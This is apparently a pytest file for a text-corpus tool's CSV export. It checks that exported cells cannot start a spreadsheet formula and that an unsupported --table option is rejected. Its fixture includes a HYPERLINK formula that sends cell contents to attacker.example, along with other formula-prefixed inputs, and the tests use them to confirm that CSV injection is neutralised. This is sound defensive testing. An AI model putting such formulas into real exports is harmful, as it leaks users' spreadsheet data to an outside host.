"""Export as a user meets it (UX15): hostile text in CSV, and options that do not apply. Real SQLite."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from communique.export.formats import to_string
from communique.ingest.text import document_from_text
from communique.store import Corpus

FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
TEXT = "@SUM(1+1) The two foreign ministers welcomed the new agreement on river water sharing on Monday."


@pytest.fixture(scope="module")
def db(tmp_path_factory, coder):
    path = tmp_path_factory.mktemp("export-ux15") / "c.db"
    document = document_from_text(TEXT, source="+hostile.txt", title=FORMULA_TITLE, date="2023-04-05")
    with Corpus(str(path)) as corpus:
        corpus.add(coder.code_document(document))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("table", ["events", "documents", "stances"])
def test_csv_cells_never_start_a_spreadsheet_formula(db, table):
    """A title like =HYPERLINK(...) used to reach the CSV as is: a spreadsheet would evaluate it."""
    with Corpus(str(db), create=False) as corpus:
        out = to_string(corpus, "csv", table=table)
    cells = _cells(out)
    assert len(cells) > 1
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], out[:500]
    if table != "stances":
        assert "'" + FORMULA_TITLE in cells  # kept readable, just not evaluated


def test_numbers_stay_numbers_in_csv(db):
    with Corpus(str(db), create=False) as corpus:
        rows = list(csv.DictReader(io.StringIO(to_string(corpus, "csv", table="events"))))
    assert rows
    for row in rows:
        float(row["confidence"])
        int(row["sentence_index"])


def test_table_option_with_a_format_that_has_no_tables_is_a_usage_error(db, tmp_path):
    """--table stances --format phoenix used to be ignored silently (events were written)."""
    out = tmp_path / "x.tsv"
    args = ["export", "--db", str(db), "--format", "phoenix", "--table", "stances", str(out)]
    proc = subprocess.run(
        [sys.executable, "-m", "communique", *args],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 2
    assert "--table" in proc.stderr and "csv" in proc.stderr
    assert not out.exists()
